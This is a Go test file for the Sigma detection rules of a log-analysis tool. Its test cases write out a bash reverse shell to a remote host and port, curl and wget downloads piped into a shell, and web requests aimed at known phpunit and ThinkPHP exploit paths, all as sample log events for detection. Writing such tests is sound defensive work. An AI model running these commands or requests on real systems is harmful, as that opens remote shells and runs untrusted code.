package sigma

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/logs/rules"
	"github.com/vigil-ir/vigil/internal/model"
	vrules "github.com/vigil-ir/vigil/rules"
)

func embedded(t *testing.T) *Set {
	t.Helper()
	s := New()
	s.LoadFS(vrules.Sigma, "sigma", "rules/sigma")
	if len(s.Problems) > 0 || s.Len() < 5 {
		t.Fatalf("embedded rules: %d loaded, problems %v", s.Len(), s.Problems)
	}
	return s
}

func judge(s *Set, evs ...model.Event) []model.Finding {
	set := rules.New(rules.Config{})
	set.Add(s)
	for i := range evs {
		evs[i].Time = time.Date(2026, 3, 1, 9, 0, i, 0, time.UTC)
		evs[i].Line = i + 1
		if evs[i].File == "" {
			evs[i].File = "/var/log/auth.log"
		}
		set.Observe(&evs[i])
	}
	var out []model.Finding
	for _, f := range set.Finish() {
		if f.RuleID == RuleMatch {
			out = append(out, f)
		}
	}
	return out
}

func sudo(cmd string) model.Event {
	return model.Event{Source: "auth", Program: "sudo", Kind: "sudo.command", Actor: "deploy", Object: "root",
		Fields: map[string]string{"command": cmd}, Raw: "Mar  1 09:00:00 web1 sudo: deploy : TTY=pts/0 ; USER=root ; COMMAND=" + cmd}
}

func web(target string) model.Event {
	return model.Event{Source: "web.access", Program: "nginx", Kind: "web.request", SrcIP: "203.0.113.5", Object: target,
		File: "/var/log/nginx/access.log", Fields: map[string]string{"method": "GET", "status": "200"}, Raw: `203.0.113.5 - - "GET ` + target + `"`}
}

func TestEmbeddedRulesFire(t *testing.T) {
	s := embedded(t)
	tests := []struct {
		name  string
		ev    model.Event
		title string
	}{
		{"reverse shell", sudo("/bin/bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), "Reverse shell command line"},
		{"download exec", sudo("/bin/sh -c curl -fsSL http://203.0.113.7/x.sh | sh"), "Download piped to a shell"},
		{"cron command", model.Event{Source: "syslog", Program: "CRON", Kind: "cron.command", Actor: "root", Object: "wget -qO- http://203.0.113.7/a|bash",
			Raw: "Mar  1 09:00:01 web1 CRON[1]: (root) CMD (wget -qO- http://203.0.113.7/a|bash)"}, "Download piped to a shell"},
		{"sshd keyword", model.Event{Source: "auth", Program: "sshd", Raw: "Mar  1 09:00:00 web1 sshd[1]: Corrupted MAC on input. [preauth]"}, "sshd messages of exploitation attempts"},
		{"exploit path", web("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), "Requests to known exploit paths"},
		{"exploit query", web("/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"), "Requests to known exploit paths"},
		{"crontab by www-data", model.Event{Source: "syslog", Program: "crontab", Kind: "cron.edit", Actor: "www-data", Object: "www-data",
			Raw: "Mar  1 09:00:00 web1 crontab[77]: (www-data) REPLACE (www-data)"}, "Crontab edited by a service account"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := judge(s, tc.ev)
			if len(got) != 1 || got[0].Subject != tc.title {
				t.Fatalf("want one match of %q, got %+v", tc.title, got)
			}
			f := got[0]
			if f.Technique == "" || f.Evidence.Extra["sigma_file"] == "" || f.Evidence.Text == "" || f.Severity < model.Medium {
				t.Errorf("finding: %+v", f)
			}
		})
	}
}

func TestEmbeddedRulesQuiet(t *testing.T) {
	s := embedded(t)
	got := judge(s,
		sudo("/usr/bin/apt-get upgrade -y"),
		sudo("/usr/bin/curl -o /tmp/release.tar.gz https://example.org/release.tar.gz"),
		sudo("/usr/bin/systemctl restart nginx"),
		model.Event{Source: "auth", Program: "sshd", Kind: "ssh.login", Actor: "deploy", SrcIP: "10.0.0.5",
			Raw: "Mar  1 09:30:12 web1 sshd[9]: Accepted publickey for deploy from 10.0.0.5 port 52311 ssh2"},
		model.Event{Source: "syslog", Program: "CRON", Kind: "cron.command", Actor: "root", Object: "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"},
		model.Event{Source: "syslog", Program: "crontab", Kind: "cron.edit", Actor: "deploy", Object: "deploy"},
		web("/wp-content/themes/x/style.css?ver=6.4"), web("/search?q=phpunit+tutorial"),
	)
	for _, f := range got {
		t.Errorf("clean events matched %q: %s", f.Subject, f.Evidence.Text)
	}
}

func TestBrokenRuleIsAProblemOthersLoad(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("good.yml", "title: su to root\nlogsource:\n  product: linux\n  service: su\ndetection:\n  sel:\n    Object: root\n  condition: sel\nlevel: low\n")
	write("broken.yml", "title: [unclosed\n")
	write("notarule.yaml", "just: data\n")
	write("aggregate.yml", "title: agg\nlogsource:\n  product: linux\ndetection:\n  sel:\n    Kind: ssh.auth.failed\n  condition: sel | count() by SourceIp > 10\n")
	write("windows.yml", "title: win\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel\n")
	write("README.md", "not a rule")
	s := New()
	if err := s.LoadDir(dir); err != nil {
		t.Fatal(err)
	}
	if s.Len() != 1 || s.Skipped != 1 || len(s.Problems) != 3 {
		t.Fatalf("loaded %d, skipped %d, problems %v", s.Len(), s.Skipped, s.Problems)
	}
	for _, p := range s.Problems {
		if !strings.HasPrefix(p.File, dir) || p.Err == nil {
			t.Errorf("problem without its file: %+v", p)
		}
	}
	got := judge(s, model.Event{Source: "auth", Program: "su", Kind: "su.session", Actor: "ops", Object: "root", Raw: "su: (to root) ops on pts/0"})
	if len(got) != 1 || got[0].Severity != model.Low {
		t.Errorf("user rule: %+v", got)
	}
	if err := New().LoadDir(filepath.Join(dir, "none")); err == nil {
		t.Errorf("a missing directory is not an error")
	}
}

func FuzzParse(f *testing.F) {
	entries, _ := vrules.Sigma.ReadDir("sigma")
	for _, e := range entries {
		b, _ := vrules.Sigma.ReadFile("sigma/" + e.Name())
		f.Add(b)
	}
	f.Add([]byte("title: x\ndetection:\n  k:\n    - a\n  condition: k\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s := New()
		s.Add("fuzz.yml", b)
		judge(s, sudo("bash -i >& /dev/tcp/1.2.3.4/1 0>&1"), web("/x?y=z"))
	})
}

func BenchmarkSigma(b *testing.B) {
	s := New()
	s.LoadFS(vrules.Sigma, "sigma", "rules/sigma")
	ev := model.Event{Source: "auth", Program: "sshd", Kind: "ssh.auth.failed", Actor: "root", SrcIP: "203.0.113.9",
		Raw: "Mar  1 09:00:00 web1 sshd[1]: Failed password for root from 203.0.113.9 port 1 ssh2", Fields: map[string]string{"method": "password", "port": "1"}}
	hit := func(rules.Hit, *model.Event) {}
	b.ReportAllocs()
	for range b.N {
		s.Observe(&ev, hit)
	}
}
